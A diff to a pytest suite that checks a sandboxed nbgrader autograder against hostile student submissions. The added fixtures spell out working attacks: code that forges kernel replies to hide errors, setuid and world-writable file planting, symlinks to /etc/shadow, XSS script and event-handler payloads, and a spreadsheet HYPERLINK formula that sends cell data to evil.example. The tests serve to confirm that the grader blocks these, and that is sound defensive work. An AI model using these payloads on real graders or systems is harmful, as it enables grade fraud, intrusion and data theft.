@@ -9,9 +9,14 @@ import copy
 import csv
 import hashlib
 import json
+import os
+import re
 import shutil
 import socket
+import stat
 import sqlite3
+import subprocess
+import tempfile
 import threading
 import time
 import warnings
@@ -23,7 +28,7 @@ import pytest
 from nbformat.warnings import DuplicateCellId
 
 from helpers import homework
-from helpers.homework import NOTEBOOKS, SandboxUnavailable, autograde, graded_notebooks, make_student
+from helpers.homework import NOTEBOOKS, Limits, SandboxUnavailable, autograde, graded_notebooks, make_student
 
 TINY = Path(__file__).parent / "fixtures" / "homework"
 NB = "00_tiny"
@@ -159,6 +164,7 @@ TOKEN = "homework-daemon-7c1e"  # in the daemon's command line: no process may k
 
 def _attacks(paths: dict[str, Path], port: int) -> dict[str, tuple[str, str]]:
     """name -> (code put in place of ex1's solution, code put in place of ex2's); stubs elsewhere."""
+    stub1 = "raise NotImplementedError()"
     stub2 = "def double(xs):\n    raise NotImplementedError()"
     p = {k: str(v) for k, v in paths.items()}
     daemon = (f"import time\nfor _ in range(300):\n    time.sleep(0.1)\n    try:\n"
@@ -205,8 +211,8 @@ def _attacks(paths: dict[str, Path], port: int) -> dict[str, tuple[str, str]]:
         # files outside its own folder: the repository, build/, a classmate's submission
         "mallory_files": (
             "for target in " + repr([p["repo_file"], p["build_file"], p["alice"], p["csv"]]) + ":\n"
-            "    try:\n        open(target, 'w').write('pwned')\n    except OSError as e:\n"
-            "        print(target, e)\nn_distinct = None", stub2),
+            "    try:\n        open(target, 'w').write('pwned')\n        print(target, 'written')\n"
+            "    except OSError as e:\n        print(target, e)\nn_distinct = None", stub2),
         # the network: the test's server on 127.0.0.1, and an outside address
         "mallory_net": (
             "import socket\nfor addr in [('127.0.0.1', %d), ('1.1.1.1', 53)]:\n    try:\n"
@@ -217,7 +223,67 @@ def _attacks(paths: dict[str, Path], port: int) -> dict[str, tuple[str, str]]:
                            "def double(xs):\n    return [2 * x for x in xs]"),
         # 5 MB of output: the grader keeps 2 MB, the answer still counts
         "mallory_output": ("print('x' * (5 << 20))\nn_distinct = len(set(values))", stub2),
+        # forged replies: Session.send drops errors and turns error replies into ok, patched in the
+        # solution cell (ex1) and again while the test runs (ex2)
+        "mallory_forge_send": (FORGE_SEND + "\nn_distinct = None",
+                               "def double(xs):\n" + _indent(FORGE_SEND) + "\n    return None"),
+        # forged replies: do_execute overridden on the kernel, answering ok without running anything
+        "mallory_forge_execute": (
+            "k = get_ipython().kernel\n"
+            "async def do_execute(code, silent, store_history=True, user_expressions=None, allow_stdin=False, **kw):\n"
+            "    return {'status': 'ok', 'execution_count': k.execution_count, 'payload': [], 'user_expressions': {}}\n"
+            "k.do_execute = do_execute\nn_distinct = None", stub2),
+        # forged replies: tracebacks silenced (sys.excepthook, showtraceback), before and during the test
+        "mallory_forge_excepthook": (SILENCE + "\nn_distinct = None",
+                                     "def double(xs):\n" + _indent(SILENCE) + "\n    raise ValueError('hidden')"),
+        # a setuid copy of a binary and a world-writable file in every folder it can write, then
+        # it waits: meanwhile the test tries to reach them on the host as another user
+        "mallory_setuid": (
+            "import os, shutil, sys, time\nipc = os.path.dirname(sys.argv[sys.argv.index('-f') + 1])\n"
+            "planted = []\nfor d in [ipc, os.path.dirname(ipc), os.environ['HOME'], '/tmp']:\n"
+            "    for name, mode in (('id-setuid', 0o4755), ('world-writable', 0o777)):\n"
+            "        try:\n            shutil.copy('/usr/bin/id', os.path.join(d, name))\n"
+            "            os.chmod(os.path.join(d, name), mode)\n            planted.append(os.path.join(d, name))\n"
+            "        except OSError as e:\n            print(d, e)\n"
+            "    try:\n        os.chmod(d, 0o777)\n    except OSError as e:\n        print(d, e)\n"
+            "print('planted', len(planted))\ntime.sleep(7)\nn_distinct = None", stub2),
+        # 15 files of 60 MB in $HOME: a tmpfs of 256 MB, not the host's disk
+        "mallory_disk": (
+            "import os\nfor i in range(15):\n    try:\n"
+            "        with open(os.path.expanduser(f'~/f{i}'), 'wb') as f:\n            f.write(bytes(60 << 20))\n"
+            "    except OSError as e:\n        print('disk full after', i, 'files:', e.strerror)\n        break\n"
+            "n_distinct = len(set(values))", stub2),
+        # two 512 MB buffers sent on iopub: refused at the socket, never in the grader's memory
+        "mallory_buffers": (
+            "k = get_ipython().kernel\nfor _ in range(2):\n"
+            "    k.session.send(k.iopub_socket, 'display_data', {'data': {'text/plain': 'big'}, 'metadata': {}},\n"
+            "                   parent=k.get_parent(), buffers=[bytes(512 << 20)])\n"
+            "n_distinct = len(set(values))", stub2),
+        # an exception class named like a spreadsheet formula ends up in the reason
+        "mallory_csv": (stub1, "def double(xs):\n    raise type(" + repr(FORMULA) + ", (Exception,), {})()"),
     }
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click here")'
+FORGE_SEND = """from jupyter_client.session import Session
+_send = Session.send
+def _forged(self, stream, msg_or_type, content=None, *args, **kwargs):
+    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type['header']['msg_type']
+    if kind == 'error':
+        return None
+    if kind == 'execute_reply' and isinstance(content, dict) and content.get('status') == 'error':
+        content = {'status': 'ok', 'execution_count': content.get('execution_count'), 'payload': [], 'user_expressions': {}}
+    return _send(self, stream, msg_or_type, content, *args, **kwargs)
+Session.send = _forged"""
+SILENCE = """import sys
+ip = get_ipython()
+sys.excepthook = lambda *a: None
+ip.showtraceback = lambda *a, **k: None
+ip._showtraceback = lambda *a, **k: None"""
+
+
+def _indent(code: str) -> str:
+    return "\n".join("    " + line for line in code.splitlines())
 
 
 @pytest.fixture(scope="module")
@@ -264,14 +330,116 @@ def graded(tmp_path_factory, sandbox):
             nbformat.write(nb, subs / name / f"{NB}.ipynb")
     (subs / "carol").mkdir()
     (subs / "carol" / f"{NB}.ipynb").write_text('{"cells": [ not json')
+    _write_odd_submissions(root, subs, solved, stub)
     before = {k: _sha(v) for k, v in paths.items() if k != "csv"}
+    repo_before = sorted(p.name for p in homework.REPO_ROOT.iterdir())
+    watcher = _SetuidWatcher()
+    peak_before = _reset_peak_memory()
     start = time.monotonic()
-    autograde(subs, paths["csv"], notebooks=TINY, build=build, timeout=10, jobs=2)
+    autograde(subs, paths["csv"], notebooks=TINY, build=build, timeout=10, jobs=2, limits=LIMITS)
     seconds = time.monotonic() - start
+    peak_after = _memory("VmHWM")
+    watcher.stop()
     csv_text = paths["csv"].read_text()
     time.sleep(2.5)  # a surviving daemon would rewrite the CSV by now
     return {"rows": list(csv.DictReader(csv_text.splitlines())), "csv_text": csv_text, "paths": paths,
-            "before": before, "listener": listener, "seconds": seconds}
+            "before": before, "listener": listener, "seconds": seconds, "watcher": watcher,
+            "repo_before": repo_before, "peak": (peak_before, peak_after), "root": root}
+
+
+def _memory(field: str) -> int:
+    """VmRSS or VmHWM (peak) of this process, in bytes."""
+    for line in Path("/proc/self/status").read_text().splitlines():
+        if line.startswith(field + ":"):
+            return int(line.split()[1]) << 10
+    raise LookupError(field)
+
+
+def _reset_peak_memory() -> int:
+    """Reset this process's peak RSS to its current RSS (Linux: clear_refs 5); return it."""
+    Path("/proc/self/clear_refs").write_text("5")
+    return _memory("VmRSS")
+
+
+LIMITS = Limits(wall_seconds=30)  # small enough for mallory_slow to run out of it
+BAD_NAME = b"bad\xffname"  # not UTF-8
+ODD_NAMES = {"=1+1": "=1+1"}  # folder name -> as the CSV shows it
+
+
+def _write_odd_submissions(root: Path, subs: Path, solved, stub) -> None:
+    """The submissions that are not one plain notebook in a plain folder, and the solved notebook
+    with odd metadata, hostile HTML or slow cells."""
+    nb_name = f"{NB}.ipynb"
+    teacher_copy = root / "teacher" / nb_name  # a file outside the submissions, on the same disk
+    teacher_copy.parent.mkdir()
+    nbformat.write(solved, teacher_copy)
+    for name, make in {
+        "mallory_link_teacher": lambda p: p.symlink_to(TINY.resolve() / nb_name),
+        "mallory_link_alice": lambda p: p.symlink_to(Path("..") / "alice" / nb_name),
+        "mallory_link_secret": lambda p: p.symlink_to("/etc/shadow"),
+        "mallory_hardlink": lambda p: p.hardlink_to(teacher_copy),
+        "mallory_fifo": lambda p: os.mkfifo(p),
+    }.items():
+        (subs / name).mkdir()
+        make(subs / name / nb_name)
+    (subs / "mallory_folder_link").symlink_to(subs / "alice")
+    odd = {}
+    odd["mallory_meta"] = copy.deepcopy(solved)  # nbgrader metadata of the wrong types
+    odd["mallory_meta"].cells += [nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": "x"}),
+                                  nbformat.v4.new_code_cell("y = 2", metadata={"nbgrader": {"grade": True, "grade_id": [1, 2],
+                                                                                          "points": "many"}})]
+    odd["mallory_html"] = copy.deepcopy(solved)  # script and event handler for the teacher's browser
+    odd["mallory_html"].cells += [
+        nbformat.v4.new_markdown_cell(HOSTILE_HTML),
+        nbformat.v4.new_code_cell("from IPython.display import HTML, Javascript, display\n"
+                                  f"display(HTML({HOSTILE_HTML!r}))\ndisplay(Javascript('window.pwned = 3'))")]
+    odd["mallory_slow"] = copy.deepcopy(solved)  # 4 x 9.5 s under a 10 s limit: past the 30 s budget
+    i = _index(solved, "ex1_solution")
+    odd["mallory_slow"].cells[i:i] = [nbformat.v4.new_code_cell("import time\ntime.sleep(9.5)") for _ in range(4)]
+    odd[os.fsdecode(BAD_NAME)] = solved
+    for folder in ODD_NAMES:
+        odd[folder] = solved
+    for name, nb in odd.items():
+        (subs / name).mkdir()
+        nbformat.write(nb, subs / name / nb_name)
+
+
+HOSTILE_HTML = ('<script>window.pwned = 1</script><img src="x" onerror="window.pwned = 2">'
+                '<b onmouseover="window.pwned = 4">bold</b>')
+
+
+class _SetuidWatcher:
+    """While the grader runs, looks for the files mallory_setuid plants in its socket folder and
+    tries to run the setuid one, and append to the world-writable one, as user nobody."""
+
+    def __init__(self):
+        self.found: dict[str, int] = {}          # path -> mode seen on the host
+        self.as_nobody: dict[str, tuple[int, str]] = {}  # path -> (exit code, stderr) of the try
+        self.root = os.geteuid() == 0 and shutil.which("setpriv") is not None
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._watch, daemon=True)
+        self._thread.start()
+
+    def _watch(self):
+        nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
+        while not self._stop.wait(0.2):
+            for path in Path(tempfile.gettempdir()).glob("hw-ipc-*/s/*"):
+                if path.name not in ("id-setuid", "world-writable") or str(path) in self.as_nobody:
+                    continue
+                try:
+                    self.found[str(path)] = path.stat().st_mode
+                except OSError:
+                    continue
+                if not self.root:
+                    continue
+                # a shell of another user, as on a shared machine (not setpriv's own exec)
+                cmd = ["sh", "-c", f"exec '{path}'" if path.name == "id-setuid" else f"echo pwned >> '{path}'"]
+                res = subprocess.run([*nobody, *cmd], capture_output=True, text=True, timeout=30)
+                self.as_nobody[str(path)] = (res.returncode, res.stderr.strip())
+
+    def stop(self):
+        self._stop.set()
+        self._thread.join()
 
 
 # Every row the fixtures produce, as the CSV has them: (student, exercise) -> (points, reason).
@@ -279,6 +447,10 @@ NOT_ANSWERED_1 = "not answered: the solution cell still raises NotImplementedErr
 NOT_ANSWERED_2 = "not answered: the solution still raises NotImplementedError"
 NOT_JSON = "not a valid notebook file (NotJSONError: Notebook does not appear to be JSON: '{\"cells\": [ not json')"
 NONE_IS_NO_INT = "AssertionError: n_distinct should be an int, got NoneType"
+UNCONFIRMED = ("the kernel replied ok but never confirmed the test with its token: "
+               "the submission tampered with the kernel's messages")
+CHANNEL_CLOSED = ("the kernel's output channel closed (a message over the limit of 67108864 bytes?) "
+                  "before this test ran")
 EXPECTED = {
     "alice": ((1, ""), (1, "")),                                   # all solutions: full marks
     "bob": ((0, NOT_ANSWERED_1), (0, NOT_ANSWERED_2)),             # stubs left in place
@@ -307,6 +479,30 @@ EXPECTED = {
                        (1, "")),
     "mallory_output": ((1, "outputs past 2097152 bytes were dropped"),
                        (0, NOT_ANSWERED_2 + "; outputs past 2097152 bytes were dropped")),
+    # forged replies gain nothing: patched before the test, the patch is undone; patched during it,
+    # the kernel's token is missing
+    "mallory_forge_send": ((0, NONE_IS_NO_INT), (0, UNCONFIRMED)),
+    "mallory_forge_execute": ((0, UNCONFIRMED), (0, UNCONFIRMED)),
+    "mallory_forge_excepthook": ((0, NONE_IS_NO_INT), (0, "test failed (the kernel reported an error)")),
+    "mallory_setuid": ((0, NONE_IS_NO_INT), (0, NOT_ANSWERED_2)),
+    "mallory_disk": ((1, ""), (0, NOT_ANSWERED_2)),           # its $HOME filled up; the answer counts
+    "mallory_buffers": ((0, CHANNEL_CLOSED), (0, CHANNEL_CLOSED)),
+    "mallory_csv": ((0, NOT_ANSWERED_1), (0, "'" + FORMULA)),   # neutralised: a spreadsheet shows text
+    # submissions that are not one regular file in the student's own folder: never opened
+    "mallory_link_teacher": 2 * ((0, "submission is a symbolic link: it is not followed"),),
+    "mallory_link_alice": 2 * ((0, "submission is a symbolic link: it is not followed"),),
+    "mallory_link_secret": 2 * ((0, "submission is a symbolic link: it is not followed"),),
+    "mallory_hardlink": 2 * ((0, "submission is a hard link (2 names for one file): hand in a copy"),),
+    "mallory_fifo": 2 * ((0, "submission is a FIFO: it is not followed"),),
+    "mallory_folder_link": 2 * ((0, "the student folder is a symbolic link, not a folder: it is not followed"),),
+    # odd but harmless: graded as usual
+    "mallory_meta": ((1, ""), (1, "")),
+    "mallory_html": ((1, ""), (1, "")),
+    "'=1+1": ((1, ""), (1, "")),
+    os.fsencode(BAD_NAME).decode("utf-8", "backslashreplace"):
+        2 * ((0, "the student folder's name is not valid UTF-8: rename it"),),
+    # one wall-clock budget for all cells: four 9.5 s cells use up 30 s before the first test
+    "mallory_slow": 2 * ((0, "the submission used up its grading budget of 30 s (all cells together) before this test ran"),),
 }
 
 
@@ -335,12 +531,14 @@ def _executed_output(graded, student: str, gid: str) -> str:
 
 @pytest.mark.slow
 def test_sandbox_blocks_writes_outside_its_folder(graded):
+    """What matters is the host's files, wherever the clone is: a write either fails inside the
+    sandbox or lands in its private tmpfs (a clone under /tmp), and the real file stays as it was."""
     paths, before = graded["paths"], graded["before"]
     for key in ("repo_file", "build_file", "alice"):
         assert _sha(paths[key]) == before[key], f"a submission changed {paths[key]}"
     out = _executed_output(graded, "mallory_files", "ex1_solution")
     for key in ("repo_file", "build_file", "alice", "csv"):
-        assert f"{paths[key]} [Errno" in out  # every write failed inside the sandbox
+        assert f"{paths[key]} [Errno" in out or f"{paths[key]} written" in out  # the attack ran
 
 
 @pytest.mark.slow
@@ -374,6 +572,73 @@ def test_no_process_survives_and_the_csv_stays(graded):
     assert not alive, f"processes started by a submission outlived its grading: {alive}"
     assert graded["paths"]["csv"].read_text() == graded["csv_text"]  # 2.5 s after the run
     assert "fork refused after" in _executed_output(graded, "mallory_forks", "ex1_solution")
+
+
+@pytest.mark.slow
+def test_planted_setuid_and_world_writable_files_are_out_of_other_users_reach(graded):
+    """While mallory_setuid's kernel was still running, the test found its setuid copy of id and
+    its world-writable file in the socket folder on the host, and user nobody could neither run
+    the one nor write the other: the folder's parent is the grader's, 0700, unseen by the sandbox."""
+    w = graded["watcher"]
+    if not w.root:
+        pytest.skip("needs root and setpriv to act as another user (CI runs as root)")
+    modes = {Path(p).name: m for p, m in w.found.items()}
+    assert modes.get("id-setuid", 0) & stat.S_ISUID, f"the planted setuid file was not seen: {w.found}"
+    assert modes.get("world-writable", 0) & stat.S_IWOTH, f"the world-writable file was not seen: {w.found}"
+    assert set(w.as_nobody) == set(w.found)
+    for path, (code, err) in w.as_nobody.items():
+        assert code != 0 and "Permission denied" in err, f"user nobody reached {path}: {code} {err}"
+    assert not list(Path(tempfile.gettempdir()).glob("hw-ipc-*/s/id-setuid")), "the socket folder was not removed"
+    assert "planted 8" in _executed_output(graded, "mallory_setuid", "ex1_solution")  # 4 folders, all but one tmpfs
+
+
+@pytest.mark.slow
+def test_home_is_a_capped_tmpfs_and_nothing_lands_outside_build(graded):
+    out = _executed_output(graded, "mallory_disk", "ex1_solution")
+    assert "disk full after 4 files: No space left on device" in out  # 256 MB / 60 MB
+    sizes = sum(f.stat().st_size for f in graded["root"].rglob("*") if f.is_file() and not f.is_symlink())
+    assert sizes < 20 << 20, f"{sizes} bytes under the test's folder: a submission wrote to the host disk"
+    assert sorted(p.name for p in homework.REPO_ROOT.iterdir()) == graded["repo_before"]
+    assert {p.name for p in graded["root"].iterdir()} == {"build", "submissions", "teacher", "grades.csv"}
+
+
+@pytest.mark.slow
+def test_the_grader_never_holds_a_big_message(graded):
+    """Two 512 MB buffers on iopub: refused at the socket, so the grader's peak memory barely moves."""
+    before, after = graded["peak"]
+    assert after - before < 256 << 20, f"the grader's peak memory grew by {(after - before) >> 20} MB"
+
+
+@pytest.mark.slow
+def test_autograded_copies_run_no_script_in_a_browser(graded, browser):
+    """The executed copy formgrader would show: rendered by nbconvert, opened in Chromium, none of
+    mallory_html's script, event handlers or JavaScript output runs; the raw HTML would have."""
+    from nbconvert import HTMLExporter
+
+    path = graded["root"] / "build" / "nbgrader" / "autograded" / "mallory_html" / NB / f"{NB}.ipynb"
+    nb = nbformat.read(path, as_version=4)
+    shown = [c.source for c in nb.cells if c.cell_type == "markdown"]
+    shown += [str(v) for c in nb.cells if c.cell_type == "code" for o in c.outputs
+              for k, v in o.get("data", {}).items()]
+    assert not any("javascript" in k for c in nb.cells if c.cell_type == "code" for o in c.outputs
+                   for k in o.get("data", {}))
+    live_tag = re.compile(r"<script|<[a-z][^>]*\son\w+\s*=", re.I)  # escaped text (&lt;...) is harmless
+    assert HOSTILE_HTML in _all_strings(nbformat.read(graded["paths"]["alice"].parents[1] / "mallory_html" / f"{NB}.ipynb",
+                                                      as_version=4))
+    assert not [t for t in shown if live_tag.search(t)], shown
+    html, _ = HTMLExporter(template_name="classic").from_notebook_node(nb)
+    raw = f"<html><body>{HOSTILE_HTML}</body></html>"
+    for content, want in ((raw, True), (html, False)):  # a new page each: window.pwned starts undefined
+        page = browser.new_page()
+        page.route("**/*", lambda route: route.abort())  # nothing leaves the page
+        try:
+            page.set_content(content, wait_until="domcontentloaded")
+            if page.query_selector("b"):
+                page.hover("b")
+            page.wait_for_timeout(300)
+            assert page.evaluate("window.pwned !== undefined") is want, content[:200]
+        finally:
+            page.close()
 
 
 def test_autograde_refuses_without_a_sandbox(tmp_path, monkeypatch):
